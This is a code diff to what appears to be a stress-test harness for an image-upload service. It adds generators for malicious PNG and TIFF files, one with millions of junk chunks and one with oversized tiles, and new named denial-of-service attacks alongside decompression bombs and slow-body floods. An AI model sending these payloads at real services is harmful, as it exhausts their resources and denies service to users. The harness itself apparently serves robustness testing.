@@ -57,16 +57,29 @@ def images(data: bytes, count: int) -> bytes:
     return json.dumps({"images": [base64.b64encode(data).decode()] * count}).encode()
 
 
-def black_png(side: int) -> bytes:
-    """A large image of few bytes."""
-
-    def block(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
+def png(side: int, extra: bytes = b"") -> bytes:
+    """A black image, which may be large in few bytes, with more blocks after its header."""
     packer = zlib.compressobj(9)
     rows = b"".join(packer.compress(bytes(1 + 3 * side)) for _ in range(side)) + packer.flush()
-    header = block(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
-    return b"\x89PNG\r\n\x1a\n" + header + block(b"IDAT", rows) + block(b"IEND", b"")
+    header = png_block(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
+    return b"\x89PNG\r\n\x1a\n" + header + extra + png_block(b"IDAT", rows) + png_block(b"IEND", b"")
+
+
+def png_block(kind: bytes, data: bytes) -> bytes:
+    """A block of a PNG file."""
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def wide_tiles(width: int, height: int) -> bytes:
+    """A small TIFF whose tiles are all the same bytes, and hundreds of times as wide as the image."""
+    side, tile = 16, zlib.compress(bytes(32768 * 16 * 3), 9)
+    count = -(-height // side)
+    tags = ((256, width), (257, height), (258, 8), (259, 8), (262, 2), (277, 3), (322, 32768), (323, side))
+    entries = [struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags]
+    start = 8 + 2 + 12 * (len(tags) + 2) + 4
+    entries += [struct.pack("<HHII", tag, 4, count, at) for tag, at in ((324, start), (325, start + 4 * count))]
+    head = b"II*\0" + struct.pack("<IH", 8, len(entries)) + b"".join(entries) + bytes(4)
+    return head + struct.pack("<I", start + 8 * count) * count + struct.pack("<I", len(tile)) * count + tile
 
 
 def jpeg_of_scans(side: int, scans: int) -> bytes:
@@ -144,12 +157,17 @@ def attack(name: str, port: int, seconds: float) -> None:
     elif name == "jpeg-scans":
         body = images(jpeg_of_scans(4900, 30_000), 1)
         again(lambda: at_once(port, 2, JSON, body), seconds)
+    elif name in ("wide-tiles", "png-blocks"):
+        body = images(
+            wide_tiles(100, 10_000) if name == "wide-tiles" else png(8, png_block(b"prIv", b"") * 2_000_000), 1
+        )
+        again(lambda: at_once(port, 4, JSON, body), seconds)
     elif name == "hang-ups":
-        body = images(black_png(7000), 32)
+        body = images(png(7000), 32)
         at_once(port, 20, JSON, body, wait=False)
         time.sleep(seconds)
     elif name == "large-images":
-        body = images(black_png(7000), 8)
+        body = images(png(7000), 8)
         again(lambda: at_once(port, 2, JSON, body), seconds)
     elif name == "slow-bodies":
         hold(port, 64, half + b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{", seconds)
@@ -166,8 +184,8 @@ def attack(name: str, port: int, seconds: float) -> None:
 
 ATTACKS = (
     *("none", "empty-images", "nested-lists", "escapes", "many-parts", "part-headers", "parameters", "empty-lines"),
-    *("near-boundaries", "jpeg-scans", "hang-ups", "large-images", "slow-bodies", "large-slow-bodies"),
-    *("half-headers", "endless-headers"),
+    *("near-boundaries", "jpeg-scans", "wide-tiles", "png-blocks", "hang-ups", "large-images", "slow-bodies"),
+    *("large-slow-bodies", "half-headers", "endless-headers"),
 )
 
 
